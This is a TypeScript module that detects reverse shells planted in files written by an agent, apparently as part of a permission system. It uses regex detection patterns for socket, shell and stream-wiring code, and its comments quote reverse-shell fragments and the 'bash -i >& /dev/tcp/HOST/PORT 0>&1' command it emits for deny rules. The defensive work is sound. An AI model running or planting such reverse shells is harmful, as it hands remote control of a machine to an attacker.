// A reverse shell written into a file, in any language: whatever the file is (a package.json
// "dev" script, a Go "debug agent", a Java class, a C program, a Rust binary, a shell script),
// code that opens a connection to a fixed remote host, starts a shell and hands it the
// connection's streams is a reverse shell the next run of the project starts. The reading is
// the shape, not a language's spelling: three parts in one text, each in the forms the common
// languages write it:
//  - a connection out to a literal, non-loopback endpoint (`net.Dial("tcp", "203.0.113.9:4444")`,
//    `new Socket("10.0.0.1", 4444)`, `TcpStream::connect("h:p")`, `/dev/tcp/h/p`,
//    `fsockopen("h", p)`, `sockaddr_in(p, inet_aton("h"))`, `TCPClient('h', p)`);
//  - an interactive shell started (`exec.Command("/bin/sh")`, `ProcessBuilder("bash")`,
//    `"cmd.exe"`, `bash -i`), not a shell given one command to run (`"sh", "-c", "make"`);
//  - the shell's standard streams wired to something other than a terminal (`cmd.Stdin = c`,
//    `dup2`, `redirectErrorStream`/`getInputStream`, `RedirectStandardInput`, `from_raw_fd`,
//    `0>&1`, `.pipe(`).
// A program that does all three is what reverse-shell generators (msfvenom, revshells.com
// templates) emit; an application that talks to its database or runs a build step does not
// start a shell on a socket. It reads as the canonical `bash -i >& /dev/tcp/HOST/PORT 0>&1`,
// which the reverse-shell rules deny. Documentation files (Markdown, text) do not run and are
// not read, and in tests a shell line naming /dev/tcp is taken for test data.
import { posix } from 'node:path';
import type { Effect } from './types.js';

/** Cheap gate: a text that names no connection primitive is not read further. */
const CONNECT =
  /\bnet\.Dial\w*|\bDialTCP\b|\bnew\s+Socket\s*\(|\bSocket\s*\(\s*["']|\bTcpClient\b|\bTCPClient\b|TcpStream::connect|\bsocket\s*\(\s*(?:AF_INET|PF_INET)|\bsocket\.socket\b|\bcreate_connection\b|\bTCPSocket\b|\bfsockopen\b|\bIO::Socket::INET\b|\bsockaddr_in\b|\bnet\.(?:connect|createConnection)\b|\bnew\s+net\.Socket\b|\bsocket\.tcp\b|\bDeno\.connect\b|\/dev\/(?:tcp|udp)\/|\binet_(?:addr|aton|pton)\b|\bSocketChannel\.open\b|\bsocket\.connect\b/;

/** A shell, by path or name, as a string literal or the start of one, or a shell's interactive flag. */
const SHELL =
  /\/bin\/(?:ba|z|da|k|a)?sh\b|["'`](?:ba|z|da|k)?sh(?:\s+-[il]+)?["'`]|\b(?:ba|z|da)?sh\s+-i\b|["'`](?:cmd|powershell|pwsh)(?:\.exe)?["'`]|\b(?:iex|Invoke-Expression)\b/gi;
/** What follows a shell that runs one command (`"sh", "-c", "make"`, `/bin/sh -c`, `cmd /c`): not an interactive shell. */
const RUNS_COMMAND = /^["'`]?\s*(?:,\s*\[?\s*)?["'`]?(?:-c|\/c|-Command|-File|-lc)\b/i;

/** Whether the text starts an interactive shell (one not given a command to run). */
function startsShell(text: string): boolean {
  SHELL.lastIndex = 0;
  for (const m of text.matchAll(SHELL)) {
    const after = text.slice((m.index ?? 0) + m[0].length, (m.index ?? 0) + m[0].length + 16);
    if (!RUNS_COMMAND.test(after)) return true;
  }
  return false;
}

/** The shell's standard streams handed to something that is not a terminal. */
const WIRING =
  /\bdup2\b|\bdup\s*\(|\.Std(?:in|out|err)\s*[,=]|RedirectStandard(?:Input|Output)|\bget(?:Input|Output)Stream\b|\bredirect(?:Input|Output|ErrorStream)\b|\bfrom_raw_fd\b|\bStdio::from\b|\.pipe\s*\(|\bpty\.spawn\b|\d?>&\s*\d|<&\s*\d|>&\s*\/dev\/(?:tcp|udp)|\bfileno\s*\(|\bGetStream\s*\(|\bopen\s*\(\s*STDIN\b|\bIO\.popen\b|\bexec\s+\d+<>|\bstdin:\s*["']piped|\.readable\.pipeTo\b/;

const HOST = String.raw`(?:\d{1,3}(?:\.\d{1,3}){3}|[a-z0-9][a-z0-9-]*(?:\.[a-z0-9-]+)*\.[a-z]{2,})`;
/** Endpoints in the spellings above: `/dev/tcp/h/p`, `"h:p"`, `"h", p`, `p, "h"`, `PeerAddr => "h:p"`. */
const ENDPOINTS: RegExp[] = [
  new RegExp(String.raw`\/dev\/(?:tcp|udp)\/(${HOST})\/(\d{1,5})`, 'gi'),
  new RegExp(String.raw`["'](${HOST}):(\d{1,5})["']`, 'gi'),
  new RegExp(String.raw`["'](${HOST})["']\s*,\s*["']?(\d{1,5})\b`, 'gi'),
  new RegExp(String.raw`\b(\d{1,5})\s*,\s*["'](${HOST})["']`, 'gi'),
];

const LOOPBACK = /^(?:127\.\d+\.\d+\.\d+|0\.0\.0\.0|localhost|[\w.-]+\.localhost)$/i;
/** Tests: a shell command line in one is usually the data a detector is tested on. */
const TEST_FILE =
  /(?:^|\/)(?:tests?|spec|__tests__|testdata|fixtures)\/|_test\.\w+$|\.(?:test|spec)\.\w+$|(?:^|\/)test_[^/]+$|Tests?\.\w+$/;
/** Files that are read, not run. */
const DOCUMENT = /\.(?:md|markdown|mdx|rst|txt|adoc|asciidoc|html?|org|tex)$/i;
const MAX_TEXT = 256 * 1024;

function endpoint(text: string): { host: string; port: string } | undefined {
  for (const re of ENDPOINTS) {
    re.lastIndex = 0;
    for (const m of text.matchAll(re)) {
      const portFirst = /^\d{1,5}$/.test(m[1] ?? '') && !/\./.test(m[1] ?? '');
      const host = (portFirst ? m[2] : m[1]) ?? '';
      const port = (portFirst ? m[1] : m[2]) ?? '';
      const n = Number(port);
      if (!host || LOOPBACK.test(host) || !(n > 0 && n < 65536)) continue;
      // a version number is not an address ("1.2.3.4", 5), nor a file name ("app.js", 3)
      if (!/^\d/.test(host) && !/\.[a-z]{2,}$/i.test(host)) continue;
      return { host, port };
    }
  }
  // C and its kin set the address and the port apart: inet_addr("10.0.0.1"), htons(4444)
  const ip = /["'](\d{1,3}(?:\.\d{1,3}){3})["']/.exec(text)?.[1];
  if (ip && !LOOPBACK.test(ip)) return { host: ip, port: /\bhtons\s*\(\s*(\d{1,5})\s*\)/.exec(text)?.[1] ?? '4444' };
  return undefined;
}

/** The reverse shell a written text plants, as the command it amounts to (empty when none). */
export function plantedShells(path: string, content: string): Effect[] {
  if (DOCUMENT.test(path) || content.length > MAX_TEXT) return [];
  // in a test, a shell's /dev/tcp line is the detector's test data; code that dials out is still read
  if (TEST_FILE.test(path)) content = content.replace(/\/dev\/(?:tcp|udp)\//g, '/dev/null/');
  if (!CONNECT.test(content) || !startsShell(content) || !WIRING.test(content)) return [];
  const at = endpoint(content);
  if (!at) return [];
  const name = posix.basename(path.replace(/\\/g, '/'));
  return [
    {
      tool: 'exec',
      command: `bash -i >& /dev/tcp/${at.host}/${at.port} 0>&1`,
      via: `plants a reverse shell to ${at.host}:${at.port} in ${name}`,
      onlyDeny: true,
    },
  ];
}
